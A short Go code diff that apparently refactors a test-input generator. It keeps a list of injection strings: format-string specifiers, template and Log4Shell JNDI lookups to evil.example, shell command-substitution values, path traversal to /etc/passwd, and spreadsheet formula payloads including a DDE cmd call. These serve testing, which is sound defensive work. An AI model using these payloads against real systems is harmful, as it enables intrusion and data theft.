@@ -83,12 +83,8 @@ func lines() []string {
 			all = append(all, "text"+end+then)
 		}
 	}
-	for _, format := range []string{"%s%s%s%n", "%d", "%!v(PANIC=x)", "%%", "%[9]s", "{{.}}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id", "../../../../etc/passwd", `..\..\windows`, "file:///etc/passwd"} {
-		all = append(all, format)
-	}
-	for _, formula := range []string{"=1+1", "+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "=cmd|'/c calc'!A1", "\t=1", ";=1+1", "a;=1+1", ",=1", "\"=1"} {
-		all = append(all, formula)
-	}
+	all = append(all, []string{"%s%s%s%n", "%d", "%!v(PANIC=x)", "%%", "%[9]s", "{{.}}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id", "../../../../etc/passwd", `..\..\windows`, "file:///etc/passwd"}...)
+	all = append(all, []string{"=1+1", "+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "=cmd|'/c calc'!A1", "\t=1", ";=1+1", "a;=1+1", ",=1", "\"=1"}...)
 	return all
 }
 
